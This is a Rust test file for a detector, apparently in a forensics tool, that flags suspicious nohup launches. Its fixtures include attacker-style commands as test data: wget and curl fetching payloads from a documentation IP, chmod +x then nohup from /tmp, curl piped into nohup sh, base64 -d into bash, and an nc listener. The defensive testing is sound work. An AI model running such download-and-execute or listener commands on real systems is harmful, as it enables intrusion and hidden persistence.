//! Correlation, both sides: the multi-event indicators fire on the sequences they
//! describe and not on look-alikes, state stays bounded and what is dropped is
//! counted.

use std::sync::Arc;

use chrono::{DateTime, TimeZone, Utc};

use super::*;
use crate::detectors::nohup::NohupDetector;
use crate::detectors::{Detector, Findings};
use crate::event::{NetworkActivity, Platform, Position, Provenance};
use crate::finding::{Finding, Severity};

fn t(secs: i64) -> DateTime<Utc> {
    Utc.timestamp_opt(1_795_838_965 + secs, 0).unwrap()
}

fn exec(secs: i64, pid: u32, ppid: u32, argv: &[&str]) -> ProcessStart {
    let mut p = ProcessStart::test_exec(argv, pid, ppid);
    p.time = Some(t(secs));
    p.cwd = Some("/root".into());
    p.user = Some("0".into());
    p
}

fn net(secs: i64, pid: u32, kind: NetworkKind) -> Event {
    Event::Network(NetworkActivity {
        time: Some(t(secs)),
        host: "h".into(),
        pid: Some(pid),
        process_guid: None,
        image: None,
        kind,
        local: Some("127.0.0.1:14444".into()),
        remote: None,
        provenance: Provenance {
            path: Arc::from("audit.log"),
            position: Position::Line(2),
            format: "auditd",
        },
    })
}

fn run(events: Vec<Event>) -> Vec<Finding> {
    let mut d = NohupDetector::new(&Rules::embedded()).unwrap();
    let mut out = Findings::default();
    for e in &events {
        d.observe(e, &mut out);
    }
    out.drain()
}

fn has(f: &Finding, name: &str) -> bool {
    f.indicators.iter().any(|i| i == name)
}

// ---------------------------------------------------------------------------------
// command syntax
// ---------------------------------------------------------------------------------

// ---------------------------------------------------------------------------------
// the indicators
// ---------------------------------------------------------------------------------

#[test]
fn seed_test_2_chmod_then_nohup() {
    let f = run(vec![
        Event::Process(exec(
            0,
            100,
            10,
            &["chmod", "+x", "/tmp/df00tech_test_payload.sh"],
        )),
        Event::Process(exec(
            1,
            101,
            10,
            &["nohup", "/tmp/df00tech_test_payload.sh"],
        )),
    ]);
    assert_eq!(f.len(), 1);
    assert!(has(&f[0], "payload_made_executable") && has(&f[0], "temp_dir_payload"));
    // 3 + 2: chmod +x alone is a developer's habit (issue #14), the temp dir decides.
    assert!(f[0].severity >= Severity::Medium, "{:?}", f[0]);
    // Relative paths meet through the working directories.
    let mut chmod = exec(0, 100, 10, &["chmod", "755", "x.sh"]);
    chmod.cwd = Some("/var/tmp/w".into());
    let mut nohup = exec(1, 101, 10, &["nohup", "./x.sh"]);
    nohup.cwd = Some("/var/tmp/w".into());
    assert!(has(
        &run(vec![Event::Process(chmod), Event::Process(nohup)])[0],
        "payload_made_executable"
    ));
}

#[test]
fn preparation_must_match_the_path_the_host_and_the_window() {
    let cases = [
        // another file
        (exec(0, 100, 10, &["chmod", "+x", "/tmp/other"]), 1),
        // too long ago (prepare_window_secs = 600)
        (exec(0, 100, 10, &["chmod", "+x", "/tmp/p"]), 3_600),
        // read-only
        (exec(0, 100, 10, &["chmod", "644", "/tmp/p"]), 1),
    ];
    for (prep, later) in cases {
        let f = run(vec![
            Event::Process(prep),
            Event::Process(exec(later, 101, 10, &["nohup", "/tmp/p"])),
        ]);
        assert!(!has(&f[0], "payload_made_executable"), "{:?}", f[0]);
    }
    let mut elsewhere = exec(0, 100, 10, &["chmod", "+x", "/tmp/p"]);
    elsewhere.host = "other-host".into();
    let f = run(vec![
        Event::Process(elsewhere),
        Event::Process(exec(1, 101, 10, &["nohup", "/tmp/p"])),
    ]);
    assert!(!has(&f[0], "payload_made_executable"));
    // A download to the path, or a chmod inside the same shell string.
    let f = run(vec![
        Event::Process(exec(
            0,
            100,
            10,
            &["wget", "-q", "-O", "/dev/shm/k", "http://198.51.100.7/k"],
        )),
        Event::Process(exec(2, 101, 10, &["nohup", "/dev/shm/k"])),
    ]);
    assert!(has(&f[0], "payload_downloaded") && !has(&f[0], "payload_made_executable"));
    let f = run(vec![Event::Process(exec(
        0,
        100,
        10,
        &[
            "sh",
            "-c",
            "curl -so /tmp/a http://x/a; chmod +x /tmp/a; nohup /tmp/a &",
        ],
    ))]);
    assert!(has(&f[0], "payload_made_executable"));
}

#[test]
fn seed_test_1_listener_after_the_nohup_amends_the_finding() {
    // nohup (pid 14116) execs nc in the same pid; nc binds and listens.
    let f = run(vec![
        Event::Process(exec(
            0,
            14116,
            14115,
            &["nohup", "nc", "-lvp", "14444", "-s", "127.0.0.1"],
        )),
        Event::Process(exec(
            0,
            14116,
            14115,
            &["nc", "-lvp", "14444", "-s", "127.0.0.1"],
        )),
        net(0, 14116, NetworkKind::Bind),
        net(0, 14116, NetworkKind::Listen),
    ]);
    assert_eq!(
        f.len(),
        1,
        "one finding, the socket evidence attached: {f:?}"
    );
    assert!(has(&f[0], "suspicious_net_tool") && has(&f[0], "net_listener"));
    assert_eq!(
        f[0].indicators
            .iter()
            .filter(|i| *i == "net_listener")
            .count(),
        1
    );
    assert!(f[0].severity >= Severity::High);
    // A child of the nohup'd program listening counts; an unrelated process does not,
    // and neither does an outbound connection or a listener long after.
    let f = run(vec![
        Event::Process(exec(0, 200, 1, &["nohup", "sh", "/opt/x/run.sh"])),
        Event::Process(exec(1, 201, 200, &["socat", "tcp-listen:80", "-"])),
        net(1, 201, NetworkKind::Listen),
    ]);
    assert!(has(&f[0], "net_listener"));
    for other in [
        net(1, 999, NetworkKind::Listen),
        net(1, 200, NetworkKind::Connect),
        net(7_200, 200, NetworkKind::Listen),
    ] {
        let f = run(vec![
            Event::Process(exec(0, 200, 1, &["nohup", "sh", "/opt/x/run.sh"])),
            other,
        ]);
        assert!(!has(&f[0], "net_listener"), "{:?}", f[0]);
    }
}

#[test]
fn init_script_parent_unc3886_pattern() {
    // /etc/init.d/localnet (run by the kernel as `/bin/sh /etc/init.d/localnet start`)
    // forks a child that execs `nohup /bin/support`.
    let f = run(vec![
        Event::Process(exec(0, 1, 0, &["/sbin/init"])),
        Event::Process(exec(
            1,
            300,
            1,
            &["/bin/sh", "/etc/init.d/localnet", "start"],
        )),
        Event::Process(exec(1, 301, 300, &["nohup", "/bin/support"])),
    ]);
    assert_eq!(f.len(), 1);
    assert!(has(&f[0], "init_script_parent"), "{:?}", f[0]);
    assert_eq!(f[0].ppid, Some(300));
    // Two generations up (the script runs `sh -c`), and run-parts of a cron dir.
    let f = run(vec![
        Event::Process(exec(1, 300, 1, &["/bin/bash", "/etc/rc.local"])),
        Event::Process(exec(
            1,
            302,
            300,
            &["sh", "-c", "nohup /usr/local/bin/agent &"],
        )),
    ]);
    assert!(has(&f[0], "init_script_parent"));
    let f = run(vec![
        Event::Process(exec(
            1,
            300,
            1,
            &["run-parts", "--report", "/etc/cron.daily"],
        )),
        Event::Process(exec(1, 303, 300, &["nohup", "/usr/local/bin/agent"])),
    ]);
    assert!(has(&f[0], "init_script_parent"));
    // Not init scripts: an interactive shell, an editor with the script open.
    for parent in [
        &["-bash"][..],
        &["vim", "/etc/init.d/localnet"],
        &["/bin/sh", "/home/u/etc/init.d/x"],
    ] {
        let f = run(vec![
            Event::Process(exec(1, 300, 1, parent)),
            Event::Process(exec(1, 301, 300, &["nohup", "/bin/support"])),
        ]);
        assert!(!has(&f[0], "init_script_parent"), "{parent:?}");
    }
    // Alone it stays low (the seed's known false positive: vendor init scripts).
    let f = run(vec![
        Event::Process(exec(
            1,
            300,
            1,
            &["/bin/sh", "/etc/init.d/vendor-agent", "start"],
        )),
        Event::Process(exec(1, 301, 300, &["nohup", "/opt/vendor/agent"])),
    ]);
    assert_eq!(f[0].indicators, ["init_script_parent"]);
    assert_eq!(f[0].severity, Severity::Low);
}

#[test]
fn the_parent_shows_in_the_finding_and_ids_stay_unique() {
    let mut d = NohupDetector::new(&Rules::embedded()).unwrap();
    let mut out = Findings::default();
    let mut script = exec(1, 300, 1, &["/bin/sh", "/etc/init.d/localnet", "start"]);
    script.exe = Some("/usr/bin/dash".into());
    for p in [script, exec(1, 301, 300, &["nohup", "/bin/support"])] {
        d.observe(&Event::Process(p), &mut out);
    }
    let first = out.drain();
    assert_eq!(first.len(), 1);
    assert!(has(&first[0], "init_script_parent"), "{first:?}");
    d.observe(
        &Event::Process(exec(2, 302, 1, &["nohup", "/opt/x"])),
        &mut out,
    );
    let later = out.drain();
    assert_eq!(later.len(), 1);
    assert!(
        !has(&later[0], "init_script_parent"),
        "pid 1 was never seen"
    );
}

#[test]
fn sysmon_parent_fields_count_too() {
    let mut p = exec(1, 301, 300, &["nohup", "/bin/support"]);
    p.parent_exe = Some("/usr/bin/dash".into());
    p.parent_command_line = Some("/bin/sh /etc/init.d/localnet start".into());
    p.parent_process_guid = Some("{g-300}".into());
    let f = run(vec![Event::Process(p)]);
    assert!(has(&f[0], "init_script_parent"));
}

#[test]
fn web_service_parent_by_account_or_process() {
    let mut www = exec(1, 401, 400, &["sh", "-c", "nohup /tmp/.k &"]);
    www.user = Some("33".into());
    let f = run(vec![Event::Process(www)]);
    assert!(has(&f[0], "web_service_parent"));
    assert!(f[0].severity >= Severity::High);
    let f = run(vec![
        Event::Process(exec(0, 400, 1, &["/usr/sbin/php-fpm8.2", "--nodaemonize"])),
        Event::Process(exec(1, 401, 400, &["nohup", "/opt/app/worker"])),
    ]);
    assert!(has(&f[0], "web_service_parent"));
    let f = run(vec![
        Event::Process(exec(
            0,
            400,
            1,
            &[
                "/usr/bin/java",
                "-cp",
                "x",
                "org.apache.catalina.startup.Bootstrap",
                "start",
            ],
        )),
        Event::Process(exec(1, 401, 400, &["nohup", "/opt/app/worker"])),
    ]);
    assert!(
        has(&f[0], "web_service_parent"),
        "Tomcat is `java … Bootstrap`"
    );
    let mut named = exec(1, 401, 400, &["nohup", "/opt/app/worker"]);
    named.user = Some("www-data".into());
    assert!(has(
        &run(vec![Event::Process(named)])[0],
        "web_service_parent"
    ));
    // An ordinary user and an ordinary parent.
    let mut alice = exec(1, 401, 400, &["nohup", "/opt/app/worker"]);
    alice.user = Some("1000".into());
    assert!(!has(
        &run(vec![
            Event::Process(exec(0, 400, 1, &["bash"])),
            Event::Process(alice)
        ])[0],
        "web_service_parent"
    ));
}

#[test]
fn relaunched_after_it_was_killed() {
    let f = run(vec![
        Event::Process(exec(0, 500, 1, &["nohup", "/tmp/m"])),
        Event::Process(exec(600, 700, 1, &["nohup", "/tmp/m"])),
    ]);
    assert_eq!(f.len(), 2);
    assert!(!has(&f[0], "relaunched") && has(&f[1], "relaunched"));
    // Not a relaunch: the same launch seen twice (sh -c string, then the nohup exec),
    // another program, or a day later.
    let f = run(vec![
        Event::Process(exec(0, 500, 1, &["sh", "-c", "nohup /tmp/m &"])),
        Event::Process(exec(0, 501, 500, &["nohup", "/tmp/m"])),
    ]);
    assert_eq!(f.len(), 1);
    assert!(!has(&f[0], "relaunched"));
    for (argv, later) in [
        (&["nohup", "/tmp/n"][..], 10),
        (&["nohup", "/tmp/m"], 90_000),
    ] {
        let f = run(vec![
            Event::Process(exec(0, 500, 1, &["nohup", "/tmp/m"])),
            Event::Process(exec(later, 700, 1, argv)),
        ]);
        assert!(!has(&f[1], "relaunched"), "{argv:?} after {later}s");
    }
    // Bare names: the whole command identifies the program.
    let f = run(vec![
        Event::Process(exec(0, 500, 1, &["nohup", "bash", "-c", "x"])),
        Event::Process(exec(10, 700, 1, &["nohup", "bash", "-c", "y"])),
    ]);
    assert!(!has(&f[1], "relaunched"));
}

// ---------------------------------------------------------------------------------
// bounds
// ---------------------------------------------------------------------------------

#[test]
fn bounded_map_forgets_by_count_and_by_time() {
    let mut m: Bounded<u32, u32> = Bounded::new(3);
    for i in 0..10 {
        m.insert(i, i, i64::from(i));
    }
    assert_eq!(m.len(), 3);
    assert_eq!(m.dropped, 7);
    assert!(m.get(&9).is_some() && m.get(&6).is_none());
    // Replacing a key many times does not grow the queue without bound.
    for i in 0..10_000 {
        m.insert(7, i, 100);
    }
    assert!(m.order.len() <= 2 * 3 + 64 + 1);
    m.expire(100);
    assert_eq!(m.len(), 1, "8 and 9 expired, 7 was refreshed");
    m.expire(101);
    assert_eq!(m.len(), 0);
}

#[test]
fn state_stays_bounded_and_drops_are_counted() {
    let rules = Rules::embedded();
    let mut c = Correlator::new(&rules, vec!["curl".into()]).unwrap();
    let max = c.rules.max_processes;
    for i in 0..(max as u32 + 5_000) {
        let p = exec(0, 10_000 + i, 1, &["chmod", "+x", &format!("/tmp/f{i}")]);
        c.observe(&Event::Process(p.clone()));
        c.record_process(&p);
    }
    assert!(c.processes.len() <= max);
    assert!(c.prepared.len() <= c.rules.max_prepared_paths);
    let s = c.stats();
    assert_eq!(s.processes_dropped, 5_000);
    assert!(s.preparations_dropped > 0);
    assert_eq!(s.describe().len(), 2);
    // Time moves on: everything ages out, and that is not "dropped".
    c.observe(&Event::Process(exec(90_000, 1, 0, &["true"])));
    assert_eq!(c.processes.len(), 0);
    assert_eq!(c.prepared.len(), 0);
    assert_eq!(c.stats(), s);
}

/// A socket event of `pid` bound to `local` (None: a family with no address, netlink).
fn bind_at(secs: i64, pid: u32, local: Option<&str>) -> Event {
    let Event::Network(mut n) = net(secs, pid, NetworkKind::Bind) else {
        unreachable!()
    };
    n.local = local.map(str::to_string);
    Event::Network(n)
}

#[test]
fn only_network_sockets_are_listeners_and_loopback_dev_servers_weigh_less() {
    let launch = |argv: &[&str]| Event::Process(exec(0, 300, 1, argv));
    for local in [None, Some("unix:/run/app.sock")] {
        let f = run(vec![
            launch(&["nohup", "/opt/x/agent"]),
            bind_at(1, 300, local),
        ]);
        assert!(!has(&f[0], "net_listener"), "{local:?}: {:?}", f[0]);
    }
    let server = ["nohup", "python3", "-m", "http.server", "8000"];
    let f = run(vec![
        launch(&server),
        bind_at(1, 300, Some("127.0.0.1:8000")),
    ]);
    assert!(has(&f[0], "loopback_dev_listener") && !has(&f[0], "net_listener"));
    assert!(f[0].severity <= Severity::Low, "{:?}", f[0]);
    let f = run(vec![launch(&server), bind_at(1, 300, Some("0.0.0.0:8000"))]);
    assert!(has(&f[0], "net_listener"), "all interfaces: {:?}", f[0]);
}

#[test]
fn a_download_feeding_a_nohupd_shell_is_its_pipeline_neighbour() {
    let curl = |pid| exec(0, pid, 50, &["curl", "-fsSL", "http://198.51.100.7/s.sh"]);
    // `curl … | nohup sh` at a prompt: two children of the shell (pid 50), one after
    // the other, in either order.
    let f = run(vec![
        Event::Process(curl(51)),
        Event::Process(exec(0, 52, 50, &["nohup", "sh"])),
    ]);
    assert!(has(&f[0], "download_tool"), "{:?}", f[0]);
    let f = run(vec![
        Event::Process(exec(0, 52, 50, &["nohup", "sh"])),
        Event::Process(curl(51)),
    ]);
    assert!(has(&f[0], "download_tool"), "logged after: {:?}", f[0]);
    // A sequence is not a pipeline: another command of the shell in between, a
    // download to a file, a download from this host, or a script file operand.
    for (before, nohup) in [
        (
            vec![curl(51), exec(0, 53, 50, &["make"])],
            &["nohup", "sh"][..],
        ),
        (
            vec![exec(
                0,
                51,
                50,
                &["curl", "-o", "/opt/x/s.sh", "http://198.51.100.7/s"],
            )],
            &["nohup", "sh"][..],
        ),
        (
            vec![exec(
                0,
                51,
                50,
                &["curl", "-fsS", "http://127.0.0.1:8080/health"],
            )],
            &["nohup", "sh"][..],
        ),
        (vec![curl(51)], &["nohup", "sh", "/opt/x/run.sh"][..]),
    ] {
        let mut events: Vec<Event> = before.into_iter().map(Event::Process).collect();
        events.push(Event::Process(exec(0, 54, 50, nohup)));
        let f = run(events);
        assert!(!has(&f[0], "download_tool"), "{:?}", f[0]);
    }
    // A decoder feeding bash.
    let f = run(vec![
        Event::Process(exec(0, 51, 50, &["base64", "-d"])),
        Event::Process(exec(0, 52, 50, &["nohup", "bash"])),
    ]);
    assert!(has(&f[0], "encoded_payload"), "{:?}", f[0]);
}

/// The process table's ring entry stays within 128 bytes, the size below which a
/// move of it is inlined as register loads and stores (see [`ProcInfo`]).
#[test]
fn a_process_table_entry_is_at_most_128_bytes() {
    let size = std::mem::size_of::<bounded::Entry<(u64, u32), ProcInfo>>();
    assert!(size <= 128, "{size} bytes");
}

/// What the table keeps of a process is what the event said, field by field: the
/// parent's GUID (absent, empty, or long) and capped arguments included.
#[test]
fn a_process_entry_gives_back_every_field_it_was_made_from() {
    let mut p = ProcessStart::new(
        Platform::Unix,
        Provenance {
            path: Arc::from("audit.log"),
            position: Position::Line(7),
            format: "auditd",
        },
    );
    p.exe = Some("/usr/bin/nohup".into());
    p.user = Some("root".into());
    p.cwd = Some("/tmp".into());
    p.argv = ["nohup", "sh", "-c", "x".repeat(600).as_str(), "fifth"]
        .map(String::from)
        .to_vec();
    p.command_line = "nohup sh -c … fifth".into();
    p.ppid = Some(1);
    for guid in [None, Some(""), Some("{3f2a…}"), Some(&*"g".repeat(700))] {
        p.parent_process_guid = guid.map(String::from);
        let info = ProcInfo::new(&p, 42);
        assert_eq!(info.pid, 42);
        assert_eq!(info.ppid, Some(1));
        assert_eq!(info.parent_guid(), guid.map(cap));
        assert_eq!(info.non_empty(0), Some("/usr/bin/nohup"));
        assert_eq!(info.non_empty(1), Some("root"));
        assert_eq!(info.non_empty(2), Some("/tmp"));
        assert_eq!(info.field(3), "nohup sh -c … fifth");
        let args: Vec<&str> = (0..usize::from(info.args))
            .map(|i| info.field(NAMED_FIELDS + i))
            .collect();
        assert_eq!(args, ["nohup", "sh", "-c", cap(&p.argv[3])]);
        assert_eq!(args[3].len(), MAX_FIELD_BYTES);
    }
}
